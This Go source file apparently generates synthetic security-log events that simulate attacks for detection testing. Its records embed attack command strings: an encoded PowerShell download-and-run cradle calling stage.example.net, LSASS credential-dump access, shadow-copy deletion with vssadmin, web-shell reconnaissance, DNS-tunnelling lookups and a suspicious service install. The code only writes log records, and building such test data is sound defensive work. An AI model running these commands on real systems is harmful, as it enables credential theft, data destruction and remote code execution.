package demo

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"time"
	"unicode/utf16"
)

// step is one record of an attack: when after its beginning, at which member,
// and how it is made.
type step struct {
	after  time.Duration
	member int
	make   func(*scene) []byte
}

// maxPlan bounds how long an attack or campaign lasts.
const maxPlan = 5 * time.Minute

// minEvery bounds how often attacks and campaigns begin.
const minEvery = 5 * time.Second

// due returns the records of plans that fall into a member's slot. A plan
// begins at every multiple of every.
func (g *Generator) due(purpose string, every time.Duration, plan func(k int64) []step, member int, slot time.Time) []timed {
	if every < 0 {
		return nil
	}
	every = max(every, minEvery)
	var out []timed
	last := slot.UnixMicro() / every.Microseconds()
	for k := max(last-int64(maxPlan/every)-1, 0); k <= last; k++ {
		began := time.UnixMicro(k * every.Microseconds()).UTC()
		for i, st := range g.plans.of(purpose, k, plan) {
			at := began.Add(st.after)
			if st.member != member || at.Before(slot) || !at.Before(slot.Add(Slot)) {
				continue
			}
			s := &scene{site: g.sites[member], rng: g.dice(purpose, k, int64(i)), at: at}
			out = append(out, timed{at, st.make(s)})
		}
	}
	return out
}

func (g *Generator) attackRecords(member int, slot time.Time) []timed {
	return g.due("attack step", g.opt.AttackEvery, g.attackPlan, member, slot)
}

// attackKinds is how many kinds of attack on a single member there are; each
// fires one rule of the catalogue.
const attackKinds = 9

// attackPlan is the k-th attack on a single member.
func (g *Generator) attackPlan(k int64) []step {
	rng := g.dice("attack", k, 0)
	member := rng.IntN(len(g.sites))
	site := g.sites[member]
	ws, sv := site.workstation(rng.IntN(workstations)), site.server(rng.IntN(servers))
	once := func(make func(*scene) []byte) []step {
		return []step{{after: time.Duration(rng.IntN(20)) * time.Second, member: member, make: make}}
	}
	switch kind := k % attackKinds; kind {
	case 0:
		return once(func(s *scene) []byte { return s.encodedDownload(ws, "stage.example.net") })
	case 1:
		return once(func(s *scene) []byte {
			return s.access(ws, `C:\Users\Public\sqldumper.exe`, `C:\Windows\System32\lsass.exe`, "0x1410")
		})
	case 2:
		return once(func(s *scene) []byte { return s.newAdministrator(sv, ws.user) })
	case 3:
		return once(func(s *scene) []byte {
			return s.processCreation(sv, process{image: `C:\Windows\System32\vssadmin.exe`, command: "vssadmin.exe delete shadows /all /quiet", parent: shell, hashes: hashes("vssadmin"), user: `NT AUTHORITY\SYSTEM`})
		})
	case 4:
		return once(func(s *scene) []byte { return s.oddService(sv) })
	case 5:
		return once(func(s *scene) []byte {
			return s.processCreation(site.server(3), process{image: shell, command: "cmd.exe /c whoami /all", parent: `C:\Windows\System32\inetsrv\w3wp.exe`, hashes: hashes(shell), user: `IIS APPPOOL\ebank`})
		})
	case 6:
		return once(func(s *scene) []byte {
			return s.proxy(ws, "GET", fmt.Sprintf("http://198.51.100.%d/update/viewer.exe", 200+s.rng.IntN(50)), 200)
		})
	case 7:
		return repeat(member, 14, 6*time.Second, func(s *scene, i int) []byte {
			return s.logon(sv, site.workstation(i).user, fmt.Sprintf("10.%d.99.%d", site.net, 10+k%200), true)
		})
	default:
		return repeat(member, 26, 8*time.Second, func(s *scene, _ int) []byte {
			name := fmt.Sprintf("%016x%016x.t.quiet-otter.example.net", s.rng.Uint64(), s.rng.Uint64())
			return s.zeekDNS(ws, name, "TXT", "ok")
		})
	}
}

func repeat(member, n int, every time.Duration, make func(*scene, int) []byte) []step {
	var out []step
	for i := range n {
		out = append(out, step{
			after: time.Duration(i) * every, member: member,
			make: func(s *scene) []byte { return make(s, i) },
		})
	}
	return out
}

// encoded is a script as powershell -EncodedCommand takes it.
func encoded(script string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func (s *scene) encodedDownload(h host, domain string) []byte {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://" + domain + "/a')"
	return s.processCreation(h, process{
		image: powershell, original: "PowerShell.EXE", company: "Microsoft Corporation",
		command: "powershell.exe -nop -w hidden -enc " + encoded(script),
		parent:  `C:\Program Files\Sample Office\write.exe`, hashes: hashes(powershell),
	})
}

func (s *scene) newAdministrator(h host, user string) []byte {
	return security(4732, h, s.at).
		text("SubjectUserName", user).text("SubjectDomainName", s.site.netbios).
		text("MemberName", "-").text("MemberSid", "S-1-5-21-1004336348-1177238915-682003330-1187").
		text("TargetUserName", "Administrators").text("TargetDomainName", "Builtin").text("TargetSid", "S-1-5-32-544").done()
}

func (s *scene) oddService(h host) []byte {
	name := fmt.Sprintf("svc%05x", s.rng.IntN(1<<20))
	return windows("System", "Service Control Manager", 7045, h, s.at).
		text("ServiceName", name).text("ImagePath", `%COMSPEC% /c echo go > \\.\pipe\`+name).
		text("ServiceType", "user mode service").text("StartType", "demand start").text("AccountName", "LocalSystem").done()
}
